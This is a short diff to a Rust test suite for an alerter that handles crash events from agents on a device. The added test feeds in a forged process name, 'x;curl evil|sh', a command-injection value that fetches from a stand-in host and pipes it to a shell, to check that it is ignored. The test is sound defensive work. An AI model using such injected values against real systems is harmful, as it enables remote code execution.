@@ -190,7 +190,11 @@ fn while_the_alerter_has_no_broker_only_that_is_alerted_and_no_agent_is_timed_ou
 #[test]
 fn nonsense_on_any_topic_is_ignored() {
     let mut alerter = alerter();
+    // A process name no agent can have, which alerts would put into the commands they
+    // suggest.
+    let forged = crash("x;curl evil|sh", "e1");
     for (topic, payload) in [
+        ("respawn/v1/door-pi/event", &forged[..]),
         ("respawn/v1/door-pi/event", &b"not json"[..]),
         ("respawn/v1/door-pi/state", b"{\"state\":"),
         ("respawn/v1/door-pi/proc/doorbot", b"[]"),
